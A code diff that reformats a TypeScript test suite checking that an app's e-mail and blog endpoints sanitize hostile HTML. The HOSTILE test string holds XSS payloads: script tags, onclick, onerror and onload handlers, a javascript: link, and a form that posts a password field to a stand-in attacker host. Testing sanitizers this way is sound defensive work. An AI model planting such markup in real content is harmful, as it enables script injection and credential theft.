@@ -6,20 +6,27 @@ import { api, apiUrl, serveMockApi } from '@tests/support/mockApi';
 serveMockApi();
 
 /* The worker's demo endpoints store an e-mail's message and a blog post's content as the app's HTML policy leaves them. */
-const HOSTILE = '<p style="position:fixed;inset:0" onclick="alert(1)">Hi <a href="javascript:alert(1)">you</a></p><script>alert(1)</script>'
-  + '<img src="https://tracker.example/o.gif" onerror="alert(1)"><form action="https://evil.example"><input name="pw"></form><svg onload="alert(1)"></svg>';
+const HOSTILE =
+  '<p style="position:fixed;inset:0" onclick="alert(1)">Hi <a href="javascript:alert(1)">you</a></p><script>alert(1)</script>' +
+  '<img src="https://tracker.example/o.gif" onerror="alert(1)"><form action="https://evil.example"><input name="pw"></form><svg onload="alert(1)"></svg>';
 const CLEAN = '<p>Hi <a>you</a></p><img src="https://tracker.example/o.gif">';
 
 describe('e-mail messages', () => {
   it('are stored clean when sent', async () => {
-    const { status, body } = await api.post<EmailResponse>('/apps/email/emails', { email: { to: [{ name: 'Ada', email: 'ada@example.com' }], subject: 'x', message: HOSTILE } });
+    const { status, body } = await api.post<EmailResponse>('/apps/email/emails', {
+      email: { to: [{ name: 'Ada', email: 'ada@example.com' }], subject: 'x', message: HOSTILE },
+    });
     expect(status).toBe(201);
     expect(body.email.message).toBe(CLEAN);
     expect((await api.get<EmailResponse['email']>(`/apps/email/emails/${body.email.id}`)).body.message).toBe(CLEAN);
   });
 
   it('and when a draft is edited', async () => {
-    const draft = (await api.post<EmailResponse>('/apps/email/emails', { email: { subject: 'draft', message: '<p>first</p>', folder: 'draft' } })).body.email;
+    const draft = (
+      await api.post<EmailResponse>('/apps/email/emails', {
+        email: { subject: 'draft', message: '<p>first</p>', folder: 'draft' },
+      })
+    ).body.email;
     const { body } = await api.put<EmailResponse>(`/apps/email/emails/${draft.id}`, { email: { message: HOSTILE } });
     expect(body.email.message).toBe(CLEAN);
   });
@@ -27,7 +34,11 @@ describe('e-mail messages', () => {
 
 describe('blog posts', () => {
   const send = async (body: unknown) =>
-    fetch(apiUrl('/blog/list/data/edit', { id: 1 }), { method: 'PUT', body: JSON.stringify(body), headers: { Authorization: `Bearer ${await signToken(1, 'access')}` } });
+    fetch(apiUrl('/blog/list/data/edit', { id: 1 }), {
+      method: 'PUT',
+      body: JSON.stringify(body),
+      headers: { Authorization: `Bearer ${await signToken(1, 'access')}` },
+    });
 
   it('store their content clean', async () => {
     const record = await (await fetch(apiUrl('/blog/list/data/edit', { id: 1 }))).json();
